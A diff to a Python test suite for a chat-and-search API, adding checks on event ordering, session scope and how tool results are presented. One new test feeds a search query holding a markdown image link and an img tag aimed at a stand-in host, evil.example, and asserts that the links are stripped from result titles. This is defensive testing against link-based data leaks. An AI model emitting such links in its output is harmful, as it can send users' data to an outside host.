@@ -56,6 +56,18 @@ async def test_a_turn_tells_what_it_did_and_cites_rows():
     assert (turn["stats"]["input_tokens"], turn["stats"]["output_tokens"]) == (20, 10)
 
 
+async def test_what_a_tool_looked_for_leads_nowhere():
+    """The title of a result set has the words that were looked for, and none of the links that a model put among them."""
+    wrong = "cook ![x](https://evil.example/?k=1) <img src=//evil.example>"
+
+    def says(request: Any) -> Any:
+        return reply("Done [rs1:1].") if told(request) else reply("", use("text_search", query=wrong))
+
+    async with talking(says) as talk:
+        turn = await talk.turn("cook")
+    assert turn["result_sets"][0]["title"] == "Moments for: cook x"
+
+
 async def test_a_stream_tells_a_turn_in_order_and_ends_once():
     """Events count from 1 without gaps, and the last one, and only that, ends the stream; its turn is the stored one."""
     async with talking(searching()) as talk:
@@ -205,7 +217,10 @@ async def test_a_deleted_session_is_gone_with_its_turns():
         waiting = asyncio.create_task(talk.api.client.post(f"{url}/turns/stream", json={"message": "cook"}))
         await begun(talk)
         assert (await talk.api.client.delete(url)).json()["message"]
-        assert events((await waiting).text)[-1][1] == "error"
+        told_events = events((await waiting).text)
+        assert told_events[-1][1] == "error"
+        ids = [at for at, _, _ in told_events]
+        assert ids == sorted(ids), "the place of the last event is no earlier one"
         for path in (url, f"{url}/turns"):
             assert (await talk.api.client.get(path)).json()["error"]["code"] == "resource_session_not_found"
         assert (await talk.api.client.get("/chat/sessions")).json()["data"] == []
@@ -246,7 +261,9 @@ async def test_earlier_turns_are_told_without_their_labels():
         assert talk.player is not None
         spoken = talk.player.requests[-2].messages
     assert [one.text for one in spoken if one.role == "user"] == [f"cook {n}" for n in range(1, 12)]
-    assert not any("[rs" in one.text for one in spoken if one.role == "assistant")
+    answers = [one.text for one in spoken if one.role == "assistant" and not one.uses]
+    assert not any("[rs" in one for one in answers)
+    assert all(one.endswith("Evidence then: <data>\nA\n</data>") for one in answers), "titles are data"
 
 
 async def test_the_scope_is_frozen_when_the_question_is_asked():
@@ -283,5 +300,6 @@ async def test_a_scope_is_resolved_and_refused_whole():
         assert talk.player.requests == []
         empty = await talk.turn("cook", scope={"index_ids": [other]})
         assert (empty["effective_scope"]["prompt_run_ids"], empty["result_sets"][0]["items"]) == ([], [])
+        assert (await talk.turn("cook", scope=None))["effective_scope"]["prompt_run_ids"] == [talk.run]
         blank = await talk.api.client.post(url, json={"message": "  \n"})
         assert (blank.status_code, blank.json()["error"]["code"]) == (422, "validation_message")
